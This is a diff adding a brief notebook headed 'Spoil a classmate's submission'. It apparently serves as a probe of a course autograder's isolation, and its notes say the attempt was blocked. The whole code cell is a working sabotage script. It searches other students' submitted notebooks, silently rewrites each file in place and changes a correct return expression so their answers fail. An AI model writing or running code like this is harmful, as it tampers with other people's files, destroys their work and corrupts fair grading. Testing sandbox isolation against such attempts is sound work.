@@ -1,0 +1,19 @@
+# %% [markdown]
+# # Spoil a classmate's submission
+#
+# Submissions are files beside this one.
+#
+# * aim: harm
+# * stopped by: the package masked; the course, graders and home never bound
+# * here: double failed, mean failed
+
+# %%
+import glob
+
+for path in glob.glob("../submitted/*/*/*.ipynb") + glob.glob("../../submitted/*/*/*.ipynb"):
+    try:
+        text = open(path).read()
+        with open(path, "w") as file:
+            file.write(text.replace("return 2 * x", "return 5 * x"))
+    except OSError:
+        continue
